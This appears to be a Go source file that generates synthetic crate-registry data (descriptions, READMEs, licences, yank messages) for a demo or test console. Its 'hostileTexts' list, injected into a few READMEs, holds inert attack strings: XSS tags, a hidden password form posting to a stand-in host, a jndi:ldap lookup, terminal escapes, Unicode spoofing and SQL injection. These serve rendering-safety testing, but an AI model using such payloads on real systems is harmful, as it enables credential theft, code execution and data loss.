package demo

import (
	"fmt"
	"strings"
)

// describe is the one-line description of a crate.
func (r *Registry) describe(c *crate) string {
	if c.script != nil && c.script.description != "" {
		return c.script.description
	}
	if c.hub {
		return r.hub(c.name).description
	}
	d, t := throw(c.draws, streamText), &r.words.themes[c.theme]
	verb, object := pick(&d, t.verbs), pick(&d, t.objects)
	if strings.HasPrefix(c.name, c.base) && len(c.name) > len(c.base) {
		return fmt.Sprintf("The %q part of %s: %s %s.", strings.Trim(c.name[len(c.base):], "-_"), c.base, verb, object)
	}
	switch d.below(7) {
	case 0:
		return fmt.Sprintf("%s for %s %s.", pick(&d, []string{"A small library", "Building blocks", "A toolkit", "Fast primitives", "Simple helpers"}), verb, object)
	case 1:
		return fmt.Sprintf("%s %s without allocation", title(verb), object)
	case 2:
		return fmt.Sprintf("Types and traits for %s %s", verb, object)
	case 3:
		return fmt.Sprintf("%s %s, the easy way", title(verb), object)
	case 4:
		return fmt.Sprintf("A no-nonsense take on %s %s", verb, object)
	case 5:
		return fmt.Sprintf("%s: %s %s with few dependencies", title(strings.ReplaceAll(c.base, "_", " ")), verb, object)
	}
	return fmt.Sprintf("Safe and quick %s of %s", verb, object)
}

// keywords and categories are what the manifest says, in its own spelling.
func (r *Registry) keywords(c *crate) []string {
	return r.some(c, 1, r.words.themes[c.theme].keywords, 5)
}

func (r *Registry) categories(c *crate) []string {
	return r.some(c, 2, r.words.themes[c.theme].categories, 3)
}

func (r *Registry) some(c *crate, salt uint64, from []string, most int) []string {
	d := throw(c.draws, streamText, salt)
	if c.script != nil && c.script.bare {
		return nil
	}
	n := d.below(min(most, len(from)) + 1)
	start := d.below(len(from))
	out := make([]string, 0, n)
	for i := range n {
		out = append(out, from[(start+i)%len(from)])
	}
	return out
}

// readme is the text of a crate without an archive; a few hold what a console
// must never let act.
func (r *Registry) readme(c *crate) string {
	d := throw(c.draws, streamText, 3)
	if d.chance(0.07) || len(c.version) == 0 {
		return ""
	}
	about := r.describe(c)
	text := fmt.Sprintf("# %s\n\n%s\n\n## Use\n\n```toml\n[dependencies]\n%s = \"%s\"\n```\n", c.name, about, c.name, r.newest(c).num)
	if d.chance(0.5) {
		text += "\n" + pick(&d, []string{
			"The minimum supported Rust version is part of the promise and only moves with a minor release.",
			"This crate has no unsafe code and few dependencies. Patches are welcome; please open an issue first.",
			"The API is not settled yet. Expect small breaks until 1.0.",
			"Benchmarks live in `benches/`; run them on a quiet machine.",
		}) + "\n"
	}
	if d.chance(0.02) {
		text += "\n" + pick(&d, hostileTexts) + "\n"
	}
	return text + "\n## License\n\nLicensed under either of Apache License 2.0 or MIT license at your option.\n"
}

// hostileTexts are inert samples of what people put into READMEs.
var hostileTexts = []string{
	"<script>alert('readme')</script><img src=x onerror=alert(1)>",
	"[click me](javascript:alert(1)) and <a href=\"data:text/html;base64,PGI+aGk8L2I+\">this</a>",
	"Right to left: \u202eexe.yppah\u202c, zero\u200bwidth, and a bell \a.",
	"<style>body{display:none}</style><form action=\"https://collect.invalid/\"><input name=password></form>",
	"![tracker](https://pixel.invalid/p.gif?reader=you) <iframe src=\"https://frame.invalid/\"></iframe>",
	"\x1b[2J\x1b[31mterminal escape\x1b[0m and a very long word: " + "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
	"{{7*7}} ${jndi:ldap://x.invalid/a} '; DROP TABLE crates; --",
}

var yankMessages = []string{
	"", "", "", "published by accident", "wrong version number", "does not build on stable", "panics on empty input; use the next patch",
	"soundness bug, see the change log", "forgot to bump a dependency", "semver break", "licence file was missing", "superseded",
}

func (r *Registry) yankMessage(index int32) string {
	d := r.throw(streamYank, uint64(index))
	if c := &r.crates[r.versions[index].crate]; c.script != nil {
		return ""
	}
	return pick(&d, yankMessages)
}

var licenses = []string{"MIT OR Apache-2.0", "MIT OR Apache-2.0", "MIT OR Apache-2.0", "MIT", "MIT", "Apache-2.0", "BSD-3-Clause", "MPL-2.0", "Unlicense OR MIT", "Zlib", "GPL-3.0-or-later", "non-standard"}

func (r *Registry) license(c *crate) string {
	d := throw(c.draws, streamText, 4)
	return pick(&d, licenses)
}

// edition and rustVersion follow the year of publishing, as manifests do.
func (r *Registry) edition(v *version) string {
	switch age := r.now - v.at; {
	case age > 8*year:
		return ""
	case age > 5*year:
		return "2018"
	case age > year+180*day:
		return "2021"
	}
	return "2024"
}

func (r *Registry) rustVersion(v *version) string {
	d := throw(r.crates[v.crate].draws, streamText, 5)
	if v.at < r.ago(5*year) || !d.chance(0.4) {
		return ""
	}
	return fmt.Sprintf("1.%d", 54+int64(v.at-r.ago(5*year))*34/int64(5*year))
}

// linksKey is the native library a "-sys" crate claims.
func linksKey(c *crate) string {
	if lib, ok := strings.CutSuffix(c.name, "-sys"); ok {
		return underscored(lib)
	}
	return ""
}
